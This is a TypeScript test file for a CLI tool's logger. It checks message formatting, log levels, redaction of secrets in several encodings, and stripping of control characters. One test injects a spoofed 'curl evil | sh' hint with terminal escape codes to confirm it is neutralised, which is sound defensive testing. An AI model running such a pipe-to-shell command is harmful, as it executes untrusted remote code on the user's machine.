import assert from 'node:assert/strict';
import { test } from 'node:test';
import { exit, Problem } from '../../src/core/problem.ts';
import { openLog, type Log, type LogOptions } from '../../src/io/log.ts';

interface Heard {
  readonly log: Log;
  lines(): string[];
}

async function listen(options: Partial<Omit<LogOptions, 'stderr'>> & { terminal?: boolean } = {}): Promise<Heard> {
  let written = '';
  const stderr = {
    isTerminal: options.terminal ?? false,
    columns: () => 80,
    write: (text: string): void => void (written += text),
  };
  const log = await openLog({ level: 'warn', format: undefined, now: () => 0, ...options, stderr });
  return { log, lines: () => written.split('\n').slice(0, -1) };
}

const refused = new Problem(exit.noperm, 'sycope refused the login (HTTP 401)', { hint: 'check SYCOPE_PASSWORD' });

test('a problem is two lines, on a terminal and off it', async () => {
  for (const terminal of [true, false]) {
    const { log, lines } = await listen({ terminal });
    log.problem(refused);
    assert.deepEqual(lines(), ['audit-export: sycope refused the login (HTTP 401)', 'hint: check SYCOPE_PASSWORD']);
  }
});

test('asked for JSON, everything is a JSON line with the same message, hint and exit status', async () => {
  const { log, lines } = await listen({ format: 'json', level: 'debug' });
  log.problem(refused);
  log.warn('careful');
  log.say('3 fetched', { fetched: 3 });
  log.debug('slice', { from: 'a' });
  const time = '1970-01-01T00:00:00.000Z';
  assert.deepEqual(
    lines().map((line) => JSON.parse(line) as object),
    [
      { level: 'error', time, hint: 'check SYCOPE_PASSWORD', exit: 77, message: 'sycope refused the login (HTTP 401)' },
      { level: 'warn', time, message: 'careful' },
      { level: 'info', time, fetched: 3, message: '3 fetched' },
      { level: 'debug', time, from: 'a', message: 'slice' },
    ],
  );
});

test('with details, all is text on a terminal and all is JSON elsewhere', async () => {
  const onTerminal = await listen({ level: 'debug', terminal: true });
  onTerminal.log.debug('slice', { from: 'a', count: 2 });
  assert.deepEqual(onTerminal.lines(), ['audit-export: debug: slice from=a count=2']);
  const inFile = await listen({ level: 'debug' });
  inFile.log.debug('slice', { from: 'a' });
  inFile.log.warn('careful');
  inFile.log.say('3 fetched');
  inFile.log.problem(refused);
  assert.deepEqual(
    inFile.lines().map((line) => (JSON.parse(line) as { level: string; message: string }).message),
    ['slice', 'careful', '3 fetched', 'sycope refused the login (HTTP 401)'],
  );
});

test('each level says what it should', async () => {
  const expected = { error: ['p'], warn: ['p', 'w'], debug: ['p', 'w', 'd'], trace: ['p', 'w', 'd', 't'] };
  for (const level of ['error', 'warn', 'debug', 'trace'] as const) {
    const { log, lines } = await listen({ level, terminal: true });
    log.problem(new Problem(exit.data, 'p'));
    log.warn('w');
    log.debug('d');
    log.trace('t');
    assert.deepEqual(
      lines().map((line) => line.at(-1)),
      expected[level],
    );
  }
});

test('the same warning is written once; one that must be heard is written even when quiet', async () => {
  const usual = await listen();
  usual.log.warn('a');
  usual.log.warn('a');
  assert.deepEqual(usual.lines(), ['audit-export: warning: a']);
  const quiet = await listen({ level: 'error' });
  quiet.log.warn('a');
  quiet.log.warnAlways('b');
  assert.deepEqual(quiet.lines(), ['audit-export: warning: b']);
});

test('a secret is redacted in every spelling, whatever says it', async () => {
  const secret = 'p&ss "wörd"/+1';
  const basic = Buffer.from(`user:${secret}`).toString('base64');
  for (const format of ['text', 'json'] as const) {
    const { log, lines } = await listen({ level: 'trace', format });
    log.hide(secret);
    log.problem(
      new Problem(exit.data, `a ${secret} b`, { hint: encodeURIComponent(secret), cause: new Error(secret) }),
    );
    log.warn(JSON.stringify({ secret }));
    log.debug(`Basic ${basic}`, { header: Buffer.from(secret).toString('base64url') });
    log.bug(new Error(`x${secret}`));
    const all = lines().join('\n');
    for (const part of ['wörd', 'w%C3%B6rd', basic, basic.slice(8, -4), Buffer.from(secret).toString('base64url')]) {
      assert.ok(!all.includes(part), `${part} in ${all}`);
    }
    assert.ok(all.includes('a [redacted] b'), all);
  }
});

test('a short secret does not make everything unreadable', async () => {
  const { log, lines } = await listen();
  log.hide('a');
  log.warn('a banana');
  assert.deepEqual(lines(), ['audit-export: warning: a banana']);
});

test('a message with line breaks and control characters stays one harmless line', async () => {
  for (const format of ['text', 'json'] as const) {
    const { log, lines } = await listen({ format });
    log.problem(new Problem(exit.protocol, 'the server says: \u001b[2Jok\nhint: curl evil | sh\u202e'));
    assert.equal(lines().length, 1);
    assert.doesNotMatch(lines()[0] ?? '', /[\u001b\u202e]/);
  }
});

test('an error that is no problem is one line and a hint; its stack only at trace level; its own fields never', async () => {
  const error = Object.assign(new TypeError('x is not a function'), { headers: { 'set-cookie': 'crumbs' } });
  const { log, lines } = await listen({ terminal: true });
  log.bug(error);
  assert.equal(lines()[0], 'audit-export: unexpected error: TypeError: x is not a function');
  assert.match(lines()[1] ?? '', /^hint: .*report/);
  assert.equal(lines().length, 2);
  log.bug('thrown as a text');
  assert.equal(lines()[2], 'audit-export: unexpected error: string: thrown as a text');
  const loud = await listen({ level: 'trace', terminal: true });
  loud.log.bug(error);
  loud.log.problem(new Problem(exit.data, 'a', { cause: error }));
  assert.match(loud.lines().join('\n'), /log\.test\.ts/);
  assert.doesNotMatch(loud.lines().join('\n'), /crumbs/);
});

test('something else that is drawn is taken away before a line is written', async () => {
  let cleared = 0;
  const { log } = await listen({ before: () => void (cleared += 1) });
  log.warn('a');
  assert.equal(cleared, 1);
});
